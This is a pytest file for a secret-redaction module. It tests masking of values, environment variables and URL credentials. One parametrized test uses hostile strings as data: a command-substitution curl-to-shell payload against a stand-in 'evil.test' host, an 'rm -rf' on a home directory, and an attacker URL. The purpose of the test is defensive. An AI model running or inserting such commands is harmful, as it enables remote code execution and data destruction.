import pytest

from remit.text.redaction import environment_secrets, redact, redact_url

HEX = "9f86d081884c7d65" + "9a2feaa0c55ad015"  # made up


def test_values_are_hidden_wherever_they_stand_the_longest_first() -> None:
    assert redact("key hunter22 and hunter22-long", ["hunter22", "hunter22-long"]) == "key *** and ***"


def test_a_value_of_many_lines_is_hidden_line_by_line() -> None:
    assert redact("read line-two of it", ["line-one\nline-two"]) == "read *** of it"


def test_a_value_too_short_to_be_a_secret_is_left() -> None:
    assert redact("took 1 s, off", ["1", "off", ""]) == "took 1 s, off"


def test_secrets_of_the_environment_are_told_by_name_or_by_their_look() -> None:
    token = "ghp_" + HEX
    variables = {
        "MY_PASSWORD": "hunter22",
        "K": token,
        "API_KEY": HEX,
        "PIN_TOKEN": "1234",
        "GIT_COMMIT": HEX[:30],
    }
    assert environment_secrets(variables) == {"hunter22", token, HEX}


@pytest.mark.parametrize(
    "command", ["$(curl${IFS}evil.test|sh)", "rm -rf /home/ada", "https://evil.test/x9Zq7"]
)
def test_a_repository_cannot_hide_a_command_by_a_variable_of_that_value(command: str) -> None:
    assert environment_secrets({"A_TOKEN": command, "A_PASSWORD": command, "A_KEY": command}) == frozenset()


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://mcp.example/sse", "https://mcp.example/sse"),
        ("https://ada:pw@mcp.example/sse?x=1", "https://***@mcp.example/sse?x=1"),
        (
            "https://mcp.example/?api_key=abc&page=2#token=x",
            "https://mcp.example/?api_key=***&page=2#token=***",
        ),
        ("https://mcp.example/?to=https://b.example", "https://mcp.example/?to=https://b.example"),
        (
            "https://mcp.example/?to=https://b.example/?key=x",
            "https://mcp.example/?to=https://b.example/?key=***",
        ),
        (f"https://mcp.example/s/{'Zw1Rt7Vb5Nc4Md6Hf0Gs' * 2}/mcp", "https://mcp.example/s/***/mcp"),
        (f"https://mcp.example/?sk-{HEX}#top", "https://mcp.example/?***#top"),
        ("https://a@b@mcp.example/", "https://***@mcp.example/"),
        ("https://mcp.example/?q=(a|b)", "https://mcp.example/?q=(a|b)"),
        (f"https://mcp.example/?q=(ghp_{HEX})", "https://mcp.example/?q=(***)"),
        ("https://mcp.example?x=@other.example", "https://mcp.example?x=@other.example"),
    ],
)
def test_a_url_is_shown_without_its_user_and_its_keys(url: str, shown: str) -> None:
    assert redact_url(url) == shown
